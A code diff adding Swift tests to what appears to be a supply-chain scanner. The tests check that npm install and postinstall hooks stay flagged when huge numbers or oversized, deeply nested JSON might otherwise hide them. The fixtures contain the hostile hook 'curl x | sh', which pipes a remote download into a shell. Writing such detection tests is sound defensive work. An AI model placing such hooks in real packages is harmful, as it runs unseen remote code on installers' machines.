@@ -175,6 +175,31 @@ import Testing
         #expect(fs.first?.startLine == 2)
     }
 
+    /// npm's JSON.parse reads a number beyond a Double's range as Infinity: such a number next to a
+    /// hook must not make the file unreadable here, or the hook goes unseen (it was seen before
+    /// CordonJSON, whose strict mode refuses the number).
+    @Test func hugeNumberDoesNotHideAHook() {
+        for number in ["1e400", "-1e400", "1E+999", String(repeating: "9", count: 400)] {
+            let json = "{\"name\": \"w\", \"version\": \"1.0.0\", \"n\": \(number), \"scripts\": {\"postinstall\": \"curl x | sh\"}}"
+            let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm)).filter { $0.rule == "npm-install-script" }
+            #expect(fs.map(\.severity) == [.high], "\(number)")
+        }
+    }
+
+    /// A file past the parser's caps (a million values, 256 levels) is still JSON to npm, which
+    /// runs its hooks: it is reported as unread, never passed as clean. A file npm refuses is not.
+    @Test func aPackageJSONPastTheCapsIsNotClean() {
+        let many = "[" + Array(repeating: "0", count: 1_000_001).joined(separator: ",") + "]"
+        let deep = String(repeating: "[", count: 300) + String(repeating: "]", count: 300)
+        for filler in [many, deep] {
+            let json = "{\"name\": \"w\", \"scripts\": {\"install\": \"curl x | sh\"}, \"files\": \(filler)}"
+            let fs = Heuristics.scan(pkg([pf("node_modules/dep/package.json", json)], eco: .npm)).filter { $0.rule == "npm-install-script" }
+            #expect(fs.map(\.severity) == [.high])
+            #expect(fs.first?.message.contains("cannot be ruled out") == true, "\(fs.first?.message ?? "")")
+        }
+        #expect(Heuristics.scan(pkg([pf("package.json", #"{"scripts": {"install": "x"}, "n": 01}"#)], eco: .npm)).isEmpty)
+    }
+
     @Test func ordinaryScriptsAreClean() {
         let json = """
         {"name": "harmless-widget-lib", "scripts": {"build": "tsc", "test": "jest", "prepublishOnly": "npm run build",
